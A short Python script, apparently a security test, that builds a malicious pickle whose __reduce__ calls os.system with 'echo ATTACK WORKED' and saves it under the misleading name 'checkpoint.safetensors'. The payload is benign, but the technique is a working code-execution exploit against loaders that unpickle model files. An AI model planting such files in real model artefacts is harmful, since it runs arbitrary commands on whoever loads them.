import os
import pickle
from pathlib import Path


class Attack:
    def __reduce__(self):
        return os.system, ("echo ATTACK WORKED",)


Path("checkpoint.safetensors").write_bytes(pickle.dumps(Attack()))
